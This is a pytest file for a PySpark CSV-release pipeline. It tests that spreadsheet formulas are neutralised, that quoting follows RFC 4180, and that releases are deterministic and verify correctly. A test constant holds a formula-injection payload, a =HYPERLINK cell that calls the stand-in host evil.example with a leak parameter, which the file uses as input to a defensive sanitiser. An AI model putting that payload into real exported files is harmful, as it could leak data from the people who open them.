"""CSV releases: spreadsheet formulas neutralised, RFC 4180 quoting, same bytes every time."""

from __future__ import annotations

import csv
import json
import shutil

import pytest
from pyspark.sql import functions as F

from jobs.config.policy import load_policy
from jobs.lake.frames import local_frame
from jobs.lake.session import project_path
from jobs.release.csv_safe import neutralise_formula, with_formulas_neutralised
from jobs.release.export import export_release
from jobs.release.verify import sha256_of, verify_release
from jobs.release.write import write_release_data
from tests.gold_fixtures import usage_rows
from tests.test_export import DATASET, ledger_rows, make_lake, recipient
from transforms.contracts import USAGE_BY_TIME_OF_DAY

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'


@pytest.fixture(scope="module")
def policy():
    return load_policy(project_path("conf", "privacy-policy.yaml"))


def test_neutralise_formula_quotes_every_trigger_and_nothing_else(spark):
    cells = [HYPERLINK, "+1 202", "-2", "@SUM(A1)", "\t=cmd", "\r=cmd", "us", "a=b", " =x", "", None]
    df = local_frame(spark, [(cell,) for cell in cells], "cell string")
    out = [row.cell for row in df.select(neutralise_formula(F.col("cell")).alias("cell")).collect()]
    assert out == ["'" + HYPERLINK, "'+1 202", "'-2", "'@SUM(A1)", "'\t=cmd", "'\r=cmd", "us", "a=b", " =x", "", None]


def test_only_string_columns_are_neutralised(spark):
    df = local_frame(spark, [("-1", -1, "ok")], "text string, number int, `a.b` string")
    out = with_formulas_neutralised(df)
    assert out.columns == df.columns
    assert tuple(out.first()) == ("'-1", -1, "ok")


def test_csv_file_holds_the_neutralised_cell_in_rfc4180_quoting(spark, tmp_path):
    df = local_frame(spark, [("b", HYPERLINK, 2), ("a", "plain", 1), ("c", None, 3)], "k string, cell string, n int")
    staged_df = write_release_data(spark, df, tmp_path / "data", "csv", ("k",))
    [part] = list((tmp_path / "data").iterdir())
    assert part.name == "part-00000.csv"
    with part.open(encoding="utf-8", newline="") as handle:
        records = list(csv.reader(handle))
    assert records == [["k", "cell", "n"], ["a", "plain", "1"], ["b", "'" + HYPERLINK, "2"], ["c", "", "3"]]
    assert staged_df.where(F.col("cell") == "'" + HYPERLINK).count() == 1


@pytest.fixture(scope="module")
def csv_releases(spark, tmp_path_factory, policy):
    root = tmp_path_factory.mktemp("csv")
    lake = make_lake(spark, root, usage_rows())
    releases = [export_release(spark, lake, root / "exports", recipient("csv"), DATASET, policy) for _ in range(2)]
    return lake, releases


def test_csv_release_verifies_and_is_deterministic(spark, csv_releases):
    lake, (first, second) = csv_releases
    assert verify_release(first) == [] and verify_release(second) == []
    manifest = json.loads((first / "manifest.json").read_text())
    assert [entry["path"] for entry in manifest["files"]] == ["data/part-00000.csv"]
    assert (first / "data" / "part-00000.csv").read_bytes() == (second / "data" / "part-00000.csv").read_bytes()
    header = (first / "data" / "part-00000.csv").read_text().splitlines()[0]
    assert header.split(",") == list(USAGE_BY_TIME_OF_DAY.columns)
    assert [row["status"] for row in ledger_rows(spark, lake)] == ["published", "published"]


def test_verify_counts_csv_rows(csv_releases, tmp_path):
    _, (release, _) = csv_releases
    copy = tmp_path / release.name
    shutil.copytree(release, copy)
    manifest_path = copy / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["row_count"] = 3
    manifest_path.write_text(json.dumps(manifest))
    (copy / "manifest.json.sha256").write_text(f"{sha256_of(manifest_path)}  manifest.json\n")
    assert verify_release(copy) == ["row count 2 but the manifest says 3"]
